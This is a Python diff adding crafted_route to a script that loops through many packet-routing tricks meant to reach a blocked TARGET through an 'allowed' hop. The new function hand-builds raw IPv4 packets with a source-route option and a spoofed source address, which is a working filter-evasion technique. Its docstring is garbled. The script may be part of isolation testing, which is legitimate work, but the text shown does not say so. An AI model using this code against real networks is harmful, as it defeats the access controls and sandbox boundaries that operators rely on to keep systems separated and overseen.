@@ -48,6 +48,16 @@ def tcp_route(payload):
         sock.send(payload)
 
 
+def crafted_route(payload):
+    """From an allowed hop on to TARGET. To who reads ports too early, the option is one from 33543 to 1222."""
+    option = route(131, target)
+    datagram = struct.pack("!HHHH", 5555, PORT, 8 + len(payload), 0) + payload
+    header = struct.pack("!BBHHHBBH", 0x47, 0, 28 + len(datagram), 0x1234, 0, 64, socket.IPPROTO_UDP, 0)
+    header += socket.inet_aton("198.51.100.30") + socket.inet_aton(allowed)
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
+        sock.sendto(header + option + datagram, (allowed, 0))
+
+
 def segments(payload):
     """A segment routing header (RFC 8754) whose first segment is TARGET6."""
     hops = socket.inet_pton(socket.AF_INET6, allowed6) + socket.inet_pton(socket.AF_INET6, target6)
@@ -120,8 +130,8 @@ def plain6(payload):
 
 
 WAYS = [
-    source_route, strict_route, route_in_control, route_after_connect, tcp_route, segments, destination_options, fragments,
-    segmented, broadcast, multicast, multicast6, reconnected, fast_open, plain, plain6,
+    source_route, strict_route, route_in_control, route_after_connect, tcp_route, crafted_route, segments,
+    destination_options, fragments, segmented, broadcast, multicast, multicast6, reconnected, fast_open, plain, plain6,
 ]
 for way in WAYS:
     try:
